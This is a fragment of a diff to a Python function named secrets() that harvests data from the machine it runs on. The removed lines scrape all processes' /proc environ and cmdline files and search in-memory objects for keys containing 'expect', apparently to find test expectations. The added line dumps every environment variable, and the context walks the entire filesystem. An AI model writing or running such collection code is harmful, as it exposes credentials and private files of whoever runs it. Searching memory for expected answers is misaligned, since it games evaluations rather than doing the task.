@@ -1,17 +1,8 @@
-import gc
-import glob
 import os
-import sys
 
 
 def secrets():
-    for path in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline"):
-        try:
-            yield open(path, "rb").read()
-        except OSError:
-            pass
-    yield repr(dict(os.environ)).encode()
-    yield repr([k for o in gc.get_objects() if type(o) is dict for k in o if "expect" in str(k)][:50]).encode()
+    yield repr([f"{k}={v}" for k, v in os.environ.items()]).encode()
     for folder, _, files in os.walk("/"):
         if folder.startswith(("/proc", "/sys", "/usr")):
             continue
